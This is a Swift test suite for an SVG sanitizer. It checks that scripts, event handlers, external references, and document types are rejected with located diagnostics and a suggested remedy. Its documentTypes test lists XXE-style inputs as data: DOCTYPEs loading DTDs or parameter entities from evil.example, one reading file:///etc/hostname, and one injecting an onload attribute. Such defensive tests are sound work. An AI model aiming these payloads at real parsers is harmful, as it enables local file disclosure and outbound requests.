import Diagnostics
import Testing

@testable import Artwork

@Suite("Hostile SVG from public reports")
struct HostileSVGTests {
    @Test("a script and handlers are refused, each with its place")
    func scriptAndHandlers() throws {
        #expect(
            problems(try fixture("script-and-handlers.svg")) == [
                "2:107 svg-attribute: the attribute onload is not allowed in artwork",
                "2:125 svg-element: the element script is not allowed in artwork",
                "2:179 svg-attribute: the attribute onmouseover is not allowed in artwork",
            ])
    }

    @Test(
        "foreign content, pictures, files and style imports from elsewhere are refused, each with its place")
    func foreignContent() throws {
        #expect(
            problems(try fixture("foreign-content.svg")) == [
                "2:115 svg-style: at-rules such as @import are not allowed in styles",
                "2:123 svg-style: url() may only name an element of the same file",
                "2:160 svg-style: url() may only name an element of the same file",
                "2:190 svg-element: the element image is not allowed in artwork",
                "2:263 svg-reference: href may only name an element of the same file",
                "2:299 svg-element: the element foreignObject is not allowed in artwork",
            ])
    }

    @Test(
        "a document type is refused where it begins, and nothing of it is read",
        arguments: ["external-entity.svg", "growing-entities.svg"])
    func entities(name: String) throws {
        let clock = ContinuousClock()
        let start = clock.now
        #expect(problems(try fixture(name)) == ["3:1 svg-doctype: a document type is not allowed in SVG"])
        #expect(clock.now - start < .seconds(20))
    }

    @Test(
        "every kind of document type is refused",
        arguments: [
            "<!DOCTYPE svg>",
            "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://evil.example/svg11.dtd\">",
            "<!DOCTYPE svg SYSTEM 'file:///etc/hostname'>",
            "<!DOCTYPE html [<!ATTLIST svg onload CDATA 'x'>]>",
            "<!DOCTYPE svg [<!ENTITY % a SYSTEM \"http://evil.example/a\"> %a;]>",
        ])
    func documentTypes(text: String) {
        #expect(
            problems(Array(("\n " + text + svg("")).utf8)) == [
                "2:2 svg-doctype: a document type is not allowed in SVG"
            ])
    }

    @Test("a diagnostic shows the line and says what to do")
    func remedy() throws {
        let failure = try #require(throws: ArtworkFailure.self) {
            try ArtworkReader.read(Array(svg("<g>\n  <é>é</é><image/></g>").utf8), file: "art/a.svg")
        }
        let problem = try #require(failure.diagnostics.last)
        #expect(problem.file == "art/a.svg")
        #expect(problem.sourceLine == "  <é>é</é><image/></g>")
        #expect(problem.position?.column == 11)
        #expect(problem.remedy == "draw it with paths and shapes, or use a PNG file as the artwork")
    }
}
